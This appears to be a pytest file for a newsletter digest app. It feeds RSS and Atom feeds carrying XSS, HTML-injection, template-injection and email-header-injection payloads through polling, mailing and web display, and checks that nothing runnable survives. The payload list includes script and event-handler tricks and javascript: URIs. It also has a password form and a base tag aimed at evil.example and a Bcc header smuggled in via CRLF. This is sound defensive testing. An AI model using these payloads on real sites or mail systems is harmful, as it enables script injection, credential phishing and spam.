"""Whatever a feed carries, in whichever field, no reader's program finds anything to run in it.

Feeds with a payload in every field go the whole way: polled from a real site, chosen, written,
sent over SMTP, shown in the archive, on the sample page and in the preview.
"""

from __future__ import annotations

import importlib.util
import json
import re
from collections import Counter
from collections.abc import AsyncIterator, Callable, Iterator, Sequence
from contextlib import asynccontextmanager
from datetime import UTC, datetime, timedelta
from email.utils import format_datetime
from pathlib import Path
from typing import Any
from xml.etree import ElementTree as ET
from xml.sax.saxutils import escape, quoteattr
from zlib import crc32

import html5lib
import httpx
import pytest
from loopback import Page, Relay, Site
from sqlalchemy import select

from digest.app import open_app
from digest.articles.clean import clean
from digest.jobs import join
from digest.jobs.gather import gather
from digest.jobs.publish import publish_now
from digest.jobs.rehearse import as_edition, rehearse, show
from digest.jobs.send import deliver
from digest.jobs.world import World
from digest.model.newsletter import FeedSource, Newsletter, Schedule, Sender
from digest.settings import Settings
from digest.store.queue import Scope
from digest.store.sources import article_texts
from digest.web.app import make_web

NOW = datetime(2026, 11, 23, 7, 0, tzinfo=UTC)
DAILY = Schedule(name="daily", cron="0 7 * * *")
#: so many stories are told at length, with picture and excerpt
AT_LENGTH = 10

#: of our own writing: one of each kind of trick that we know
OURS = (
    "<script>alert(1)</script>",
    "</title></head><body onload=alert(1)><script>alert(2)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)' x='",
    "<img src='https://i.example/a.jpg' onerror=alert(1) style='width:expression(alert(1))'>",
    "<a href='javascript:alert(1)'>hier</a> <a href=' &#106;avascript:alert(1)'>da</a>",
    "javascript:alert(1)//https://site.example/",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data='javascript:1'></object>",
    "<style>@import 'https://evil.example/x.css'; * { background: url(javascript:1) }</style>",
    "<form action=https://evil.example/><input name=password autofocus onfocus=alert(1)></form>",
    "<base href=https://evil.example/><meta http-equiv=refresh content='0;url=javascript:1'>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "{{ config }} {% include '/etc/passwd' %} ${7*7} <%= 7*7 %>",
    "]]><script>alert(1)</script><![CDATA[",
    "<!--[if mso]><script>alert(1)</script><![endif]--> <![if !mso]><b>x</b><![endif]>",
    "Zeile\r\nBcc: everybody@example.org\r\n\r\n<script>alert(1)</script>",
    "\u202e<script\u2028>alert(1)</script\u00a0> \ufeff java\u200bscript:alert(1)",
    "<p id=body name=getElementById class=sheet style='position:fixed;inset:0'>Bitte anmelden</p>",
    "<" * 300 + "script>" * 40 + "alert(1)",
)  # fmt: skip

RUNS = {
    "script", "iframe", "object", "embed", "applet", "frame", "frameset", "base", "form", "input",
    "button", "textarea", "select", "svg", "math", "template", "audio", "video", "dialog", "portal",
}  # fmt: skip
_BODY = re.compile(r"<body.*</body>", re.DOTALL)
#: but for the ends of lines
CONTROLS = "[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\ufeff]"
HARMLESS = {"", "http", "https", "mailto", "cid", "tel"}


def our_faults(page: str) -> list[str]:
    """What in a page could run, lead elsewhere than to the web, or pretend to be ours."""
    faults = []
    for element in html5lib.parse(page, namespaceHTMLElements=False).iter():
        tag = element.tag.rpartition("}")[2] if isinstance(element.tag, str) else ""
        faults += [f"element {tag}"] if tag in RUNS else []
        for key, value in element.attrib.items():
            name = str(key).rpartition("}")[2].lower()
            bare = re.sub(r"[\t\r\n]", "", str(value)).lstrip("".join(map(chr, range(33))))
            scheme = re.match(r"([a-z][a-z0-9+.-]*):", bare, re.IGNORECASE)
            if name.startswith("on") or name in {"srcdoc", "formaction", "autofocus", "ping"}:
                faults.append(f"attribute {name}")
            if name in {"href", "src", "background", "action", "srcset", "poster", "cite"} and (
                scheme and scheme[1].lower() not in HARMLESS
            ):
                faults.append(f"{name} {scheme[1]}")
    return faults


@pytest.fixture(scope="module")
def their_faults(corpora: Path) -> Callable[[str], list[str]]:
    """The judge's own eyes."""
    spec = importlib.util.spec_from_file_location("check_html", corpora / "xss" / "check_html.py")
    assert spec is not None
    assert spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    check: Callable[[str], list[str]] = module.check
    return check


def rss(payload: str) -> bytes:
    text, attribute, at = (
        escape(payload),
        quoteattr(payload),
        format_datetime(NOW - timedelta(hours=1)),
    )
    cdata = payload.replace("]]>", "]]]]><![CDATA[>")
    return (
        '<?xml version="1.0" encoding="utf-8"?><rss version="2.0"'
        ' xmlns:media="http://search.yahoo.com/mrss/" xmlns:dc="http://purl.org/dc/elements/1.1/"'
        ' xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel>'
        f"<title>{text}</title><link>{text}</link><description>{text}</description>"
        f"<item><title>Titel {text}</title><link>{text}</link><guid>{text}</guid>"
        f"<comments>{text}</comments><author>{text}</author><dc:creator>{text}</dc:creator>"
        f"<category>{text}</category><pubDate>{at}</pubDate>"
        f"<media:content url={attribute} type='image/jpeg' width='500' height='400'/>"
        f"<media:content url='https://i.example/a.jpg' medium='image' width='600' height='400'>"
        f"<media:title>{text}</media:title><media:description>{text}</media:description>"
        f"</media:content><enclosure url={attribute} type='image/png' length='1'/>"
        f"<description><![CDATA[{cdata} Eine Zusammenfassung, die lang genug ist.]]></description>"
        f"<content:encoded><![CDATA[<p>{'Ein Text von einiger Länge. ' * 40}</p>{cdata}"
        f"<img src='https://i.example/b.jpg' alt={attribute}>]]></content:encoded></item>"
        f"<item><title><![CDATA[{cdata}]]></title><description>{text}</description>"
        f"<pubDate>{at}</pubDate><link>https://site.example/{crc32(payload.encode())}</link></item>"
        "</channel></rss>"
    ).encode("utf-8", "replace")


def atom(payload: str) -> bytes:
    text, attribute = escape(payload), quoteattr(payload)
    return (
        '<?xml version="1.0" encoding="utf-8"?><feed xmlns="http://www.w3.org/2005/Atom"'
        f" xml:lang={attribute}><title type='html'>{text}</title><id>{text}</id>"
        f"<link href={attribute}/><entry><title type='html'>{text}</title><id>{text}</id>"
        f"<link rel='alternate' href={attribute} title={attribute}/><author><name>{text}</name>"
        f"<email>{text}</email><uri>{text}</uri></author><category term={attribute}"
        f" label={attribute}/><updated>2026-11-23T06:30:00Z</updated>"
        f"<link rel='enclosure' type='image/png' href={attribute}/>"
        f"<summary type='html'>{text}</summary><content type='html'>{text}"
        f"{escape('<p>' + 'Ein Text von einiger Länge. ' * 40 + '</p>')}</content></entry></feed>"
    ).encode("utf-8", "replace")


def newsletter(slug: str, urls: Sequence[str]) -> Newsletter:
    return Newsletter(
        slug=slug,
        title="Stadtblatt am Morgen",
        description="Was Beispielstadt bewegt.",
        sender=Sender(name="Stadtblatt", address="post@stadtblatt.example"),
        reply_to=None,
        language="de",
        timezone="Europe/Berlin",
        theme="plain",
        address="Stadtblatt, Am Markt 1, 12345 Beispielstadt",
        imprint_url=None,
        feeds=tuple(FeedSource(url=url) for url in urls),
        schedules=(DAILY,),
        limit=40,
    )


def served(site: Site, payloads: Sequence[str]) -> Iterator[Newsletter]:
    """Newsletters of feeds that carry these payloads, few enough that each is told at length."""
    # payloads that are links lead to this site: nobody needs to read those pages, at one a second
    site.pages["/robots.txt"] = Page(b"User-agent: *\nDisallow: /\n")
    urls = []
    for number, payload in enumerate(payloads):
        for kind, make in (("rss", rss), ("atom", atom)):
            path = f"/{number}.{kind}"
            site.pages[path] = Page(make(payload))
            urls.append(site.url + path)
    for start in range(0, len(urls), AT_LENGTH):
        yield newsletter(f"n{start}", urls[start : start + AT_LENGTH])


@asynccontextmanager
async def house(
    folder: Path, relay: Relay, newsletters: Sequence[Newsletter]
) -> AsyncIterator[tuple[World, httpx.AsyncClient]]:
    settings: dict[str, Any] = {
        "database_url": f"sqlite:///{folder}/digest.db",
        "secret_key": "a secret that is long enough for tests",
        "public_url": "https://news.example",
        "feed_allow_private": True,
        "feed_first_window": "all",
        "templates_dir": Path("/nowhere"),
        "smtp_host": "127.0.0.1",
        "smtp_port": relay.port,
        "smtp_security": "none",
        "journal": None,
        "spool": folder / "digest.spool",
    }
    opened = open_app(Settings.model_validate(settings), tuple(newsletters), clock=lambda: NOW)
    async with opened as world:
        transport = httpx.ASGITransport(app=make_web(world), raise_app_exceptions=False)
        async with httpx.AsyncClient(transport=transport, base_url="https://news.example") as web:
            yield world, web


@pytest.fixture(autouse=True)
def _no_two_tell_of_one_event(monkeypatch: pytest.MonkeyPatch) -> None:
    """Stories of the same sentences would be told as one; here each is to be seen."""
    monkeypatch.setattr("digest.jobs.prepare.events_of", lambda *_, **__: [])


async def everything_shown(
    world: World, web: httpx.AsyncClient, relay: Relay, each: Newsletter
) -> dict[str, str]:
    """Where a reader or the operator could meet these feeds, by name."""
    polls = await gather(world, [each], only_due=False)
    assert {poll.status for poll in polls} == {"ok"}, polls
    await join.admit(
        world, address="ada@example.org", newsletter=each, frequency=None, door="cli", detail="test"
    )
    rehearsal = (await rehearse(world, each, DAILY, gathering=False)).prepared
    assert rehearsal is not None
    preview = show(world, as_edition(rehearsal, each, DAILY), each, None)
    made = await publish_now(world, each, DAILY)
    assert made is not None
    # RSS and Atom of one payload, and payloads with one text, may be one story
    assert len(made.draft.articles) >= len(each.feeds) // 2
    before = len(relay.mails)
    await deliver(world, Scope())
    assert len(relay.mails) == before + 1
    mail = relay.mails[-1]
    part = mail.message.get_body(("html",))
    assert part is not None
    shown = {"preview": preview.html, "mail": str(part.get_content()), "text": mail.text}
    for name, path in (
        ("list", f"archive/{each.slug}"),
        ("edition", f"archive/{each.slug}/{made.edition.id}"),
    ):
        got = await web.get(f"/{path}")
        assert got.status_code == 200, path
        shown[name] = got.text
    atom_feed = (await web.get(f"/archive/{each.slug}/feed.xml")).text
    ET.fromstring(atom_feed)  # noqa: S314 -- our own, and only whether it can be read
    assert [str(value) for value in mail.message.get_all("Bcc", [])] == []
    return shown


async def stored_texts(world: World) -> list[str]:
    async with world.store.read() as connection:
        return list((await connection.execute(select(article_texts.c.html))).scalars())


async def faults_of(
    tmp_path: Path,
    site: Site,
    relay: Relay,
    payloads: Sequence[str],
    faults: Callable[[str], list[str]],
) -> dict[str, list[str]]:
    """What is wrong anywhere, beside what is ours: a page of ours has a style and a search form."""
    found: dict[str, list[str]] = {}
    sentences = [f"Satz Nummer {number}, der harmlos ist." for number in range(AT_LENGTH // 2)]
    harmless, *hostile = served(site, [*sentences, *payloads])
    async with house(tmp_path, relay, [harmless, *hostile]) as (world, web):
        ours = {
            name: Counter(faults(page))
            for name, page in (await everything_shown(world, web, relay, harmless)).items()
        }
        for each in hostile:
            for name, page in (await everything_shown(world, web, relay, each)).items():
                assert not re.search(CONTROLS, page), name
                if name == "mail":  # what we have there that may look odd stands in its head
                    body = _BODY.search(page)
                    assert body
                    found[f"{each.slug} body"] = faults(body[0])
                if name not in {"text", "mail"}:
                    found[f"{each.slug} {name}"] = list(Counter(faults(page)) - ours[name])
        texts = await stored_texts(world)
    assert texts
    found |= {text[:60]: faults(text) for text in texts}
    assert [text for text in texts if clean(text) != text] == []
    return {name: wrong for name, wrong in found.items() if wrong}


async def test_our_own_payloads_come_to_nothing(tmp_path: Path, site: Site, relay: Relay) -> None:
    assert await faults_of(tmp_path, site, relay, OURS, our_faults) == {}


async def test_payloads_of_others_come_to_nothing(
    tmp_path: Path,
    site: Site,
    relay: Relay,
    corpora: Path,
    their_faults: Callable[[str], list[str]],
) -> None:
    payloads = json.loads((corpora / "xss" / "payloads.json").read_text())["payloads"]
    texts = [each["payload"] for each in payloads]
    assert len(texts) > 50
    assert await faults_of(tmp_path, site, relay, texts, their_faults) == {}


def test_the_check_sees_what_it_is_there_for() -> None:
    for payload in OURS[:2] + OURS[4:6]:
        assert our_faults(f"<p>{payload}</p>"), payload
